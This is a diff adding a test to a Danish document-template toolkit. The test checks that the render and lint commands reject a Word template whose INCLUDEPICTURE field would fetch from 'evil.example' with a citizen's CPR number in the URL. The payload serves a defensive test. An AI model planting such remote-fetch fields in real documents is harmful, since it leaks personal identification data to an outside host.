@@ -180,3 +180,26 @@ def test_a_template_file_too_large_is_refused_before_it_is_read(tmp_path):
         stream.truncate(70_000_000)  # sparse: large on disk, read by nothing
     with pytest.raises(TemplateProblem, match="skabelonen fylder 70.000.000 byte"):
         render(template)
+
+
+def test_the_commands_refuse_and_report_with_exit_2(tmp_path, case_file):
+    import subprocess
+    import sys
+
+    from conftest import MINIMAL, ROOT
+
+    template = with_body(tmp_path, field(' INCLUDEPICTURE "http://evil.example/?cpr={{ borger.cpr }}" ') +
+                         "<w:p><w:r><w:t>{{ borger.navn }}</w:t></w:r></w:p>")
+    case = case_file(MINIMAL)
+
+    def forloeb(*args: object) -> subprocess.CompletedProcess:
+        return subprocess.run([sys.executable, "-m", "toolkit", *map(str, args)], cwd=ROOT, capture_output=True,
+                              text=True, timeout=120)
+
+    rendered = forloeb("indsatsplan", case, "--template", template, "-o", tmp_path / "plan.docx")
+    assert rendered.returncode == 2 and "Traceback" not in rendered.stderr
+    assert f"{template}: word/document.xml: feltet INCLUDEPICTURE henter indhold udefra" in rendered.stderr
+    assert not (tmp_path / "plan.docx").exists()
+    linted = forloeb("skabelon", "tjek", template)
+    assert linted.returncode == 2
+    assert "word/document.xml: feltet INCLUDEPICTURE" in linted.stderr and "evil.example" in linted.stderr
